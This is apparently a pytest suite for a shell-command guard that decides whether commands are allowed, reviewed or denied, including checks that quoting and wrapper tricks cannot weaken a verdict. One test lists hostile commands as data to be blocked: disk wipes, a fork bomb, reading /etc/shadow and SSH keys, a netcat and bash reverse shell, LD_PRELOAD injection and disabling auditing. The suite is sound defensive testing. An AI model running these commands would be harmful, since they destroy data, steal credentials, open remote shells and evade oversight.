"""The guard asks, blocks and lets through, whatever the disguise (SSH-5, T41)."""

import shlex
from time import process_time_ns

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.command_guard import Judgement, judge
from app.core.command_line import parse_command
from app.core.guard_rules import GuardRule, guard_rules, read_guard
from app.core.policy import Effect
from app.services.profiles import load
from tests.support.corpus import corpus

pytestmark = pytest.mark.requirement("SSH-5", "T41")

RULES = load().guard
HOSTILE, HARMLESS = corpus("hostile"), corpus("harmless")
OPTIONS, EVERYDAY = corpus("options"), corpus("everyday")
OPERATORS, UNSEEN = corpus("operators"), corpus("unseen")
RANK = {Effect.ALLOW: 0, Effect.REVIEW: 1, Effect.DENY: 2}


def said(command: str) -> Judgement:
    return judge(parse_command(command), RULES)


@pytest.mark.parametrize("rule", RULES.rules, ids=lambda rule: rule.name)
def test_a_rule_does_what_its_examples_say(rule: GuardRule) -> None:
    alone = guard_rules((rule,))
    assert rule.reason.endswith(".")
    assert {one.matches for one in rule.examples} == {True, False}
    wrong = [
        (one.command, one.matches)
        for one in rule.examples
        if (judge(parse_command(one.command), alone).rule == rule.name) is not one.matches
    ]
    assert wrong == []


def test_it_asks_or_blocks_for_all_that_destroys_or_is_hostile() -> None:
    assert len(HOSTILE) >= 150
    assert [one for one in HOSTILE if said(one).effect is Effect.ALLOW] == []


def test_it_asks_for_all_that_runs_writes_or_shows_secrets_by_an_option() -> None:
    assert len(OPTIONS) >= 1_000
    assert [one for one in OPTIONS if said(one).effect is Effect.ALLOW] == []


@pytest.mark.parametrize(
    "commands",
    [HARMLESS, EVERYDAY, OPERATORS, UNSEEN],
    ids=["look-alikes", "everyday", "operators", "unseen"],
)
def test_it_asks_for_at_most_one_in_fifty_of_the_harmless(commands: list[str]) -> None:
    asked = [one for one in commands if said(one).effect is not Effect.ALLOW]
    assert len(commands) >= 150
    assert len(asked) * 50 <= len(commands), asked


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /", "sudo rm -r -f //", "cd / && rm -rf *", ":(){ :|:& };:", "mkfs.xfs /dev/sdb",
        "dd if=x of=/dev/sda", "cat /etc/sh?dow", "bash -c 'cat /etc/shadow'", "nc -e /bin/sh h 1",
        "bash -i >& /dev/tcp/10.0.0.9/1 0>&1", "env LD_PRELOAD=/x ls", "unset HISTFILE",
        "cat ~/.ssh/id_rsa", "systemctl stop auditd", "find / -exec cat /etc/shadow \\;",
    ],
)  # fmt: skip
def test_what_is_hostile_is_blocked(command: str) -> None:
    assert said(command).effect is Effect.DENY
    assert said(command).tags & {"hostile"}


def test_what_cant_be_explained_asks_and_says_why() -> None:
    judgement = said("$X y")
    assert (judgement.effect, judgement.rule) == (Effect.REVIEW, "unexplained")
    assert "not written out" in judgement.reasons[0]


def test_without_rules_only_what_cant_be_explained_asks() -> None:
    none = read_guard("")
    assert judge(parse_command("rm -rf /"), none).effect is Effect.ALLOW
    assert judge(parse_command("eval x"), none).effect is Effect.REVIEW


@pytest.mark.requirement("SSH-5", "T41")
def test_a_program_that_is_not_known_asks_until_somebody_names_it() -> None:
    assert said("frobnicate --all").rule == "unknown program"
    assert said("sudo /opt/x/frobnicate").effect is Effect.REVIEW
    own = RULES.with_more(read_guard('[group]\nknown = ["frobnicate"]\n'))
    assert judge(parse_command("frobnicate --all"), own).effect is Effect.ALLOW


def test_own_rules_come_beside_the_bundled_ones() -> None:
    own = read_guard(
        '[[rule]]\nname = "deploys"\neffect = "review"\nreason = "It deploys."\n'
        'programs = ["deploy"]\nsub = ["now"]\n'
    )
    rules = RULES.with_more(own)
    assert judge(parse_command("sudo deploy --fast now"), rules).rule == "deploys"
    assert judge(parse_command("deploy plan"), rules).effect is Effect.ALLOW
    assert judge(parse_command("rm x"), rules).effect is Effect.REVIEW


LONG = {
    "programs": "ls; " * 3_800,
    "other programs": "".join(f"cd a{at}; " for at in range(240)),
    "values": "".join(f"a=/e{at}; " for at in range(900)) + "cat " + "$a " * 1_500,
    "sub-commands": "docker " + "-x compose " * 1_300,
    "patterns": "cat " + "".join(f"/e{at}*/* " for at in range(1_300)),
    "script": "sh -c '" + "ls; " * 3_700 + "'",
    "ways up": "cat /" + "a/../" * 3_000,
}  # fmt: skip


@pytest.mark.parametrize("command", LONG.values(), ids=LONG.keys())
def test_the_longest_commands_are_judged_in_a_part_of_a_second(command: str) -> None:
    started = process_time_ns()
    said(command)
    assert process_time_ns() - started < 800_000_000


def test_more_programs_than_anybody_would_read_are_refused() -> None:
    judgement = said("ls; " * 300)
    assert (judgement.effect, judgement.tags) == (Effect.DENY, {"crowded"})
    assert "several commands" in judgement.reasons[0]
    assert said("ls; " * 100).effect is Effect.REVIEW
    assert said("sh -c '" + "ls; " * 300 + "'").effect is Effect.DENY


# --- properties ----------------------------------------------------------------------------------

WRAPPERS = (
    "sudo {}", "sudo -u root -- {}", "env {}", "env A=b {}", "nohup {}", "timeout 5 {}",
    "nice -n 5 {}", "command {}", "setsid {}", "stdbuf -oL {}", "( {} )", "{{ {}; }}", "ls; {}",
    "true && {}", "{} 2>/dev/null", "\n{}\n", "if true; then {}; fi",
)  # fmt: skip
SIMPLE = [
    one
    for one in (*HOSTILE, *HARMLESS)
    if one.isascii() and not set(one) & set("'\"\\$`(){}[]<>|&;!#~*?\n=\r{},")
]


def quoted(word: str, how: int) -> str:
    if how == 0:
        return word
    if how == 1:
        return f"'{word}'"
    if how == 2:
        return f'"{word}"'
    if how == 3:
        return "".join(f"\\{sign}" for sign in word)
    return f"{word[:1]}''{word[1:]}"


@given(st.sampled_from(SIMPLE), st.data())
def test_other_quotes_and_spaces_never_make_it_milder(command: str, data: st.DataObject) -> None:
    words = command.split()
    hows = data.draw(st.lists(st.integers(0, 4), min_size=len(words), max_size=len(words)))
    gap = data.draw(st.sampled_from([" ", "  ", "\t", " \\\n "]))
    text = gap.join(quoted(word, how) for word, how in zip(words, hows, strict=True))
    assert shlex.split(text.replace("\\\n", "")) == words
    assert RANK[said(text).effect] >= RANK[said(command).effect], text


@given(
    st.sampled_from([one for one in (*HOSTILE, *HARMLESS) if "\n" not in one and "#" not in one]),
    st.sampled_from(WRAPPERS),
)
def test_a_wrapper_or_a_neighbour_never_makes_it_milder(command: str, wrapper: str) -> None:
    assert RANK[said(wrapper.format(command)).effect] >= min(RANK[said(command).effect], 1)


@given(st.text())
def test_it_is_total(text: str) -> None:
    assert said(text).effect in Effect
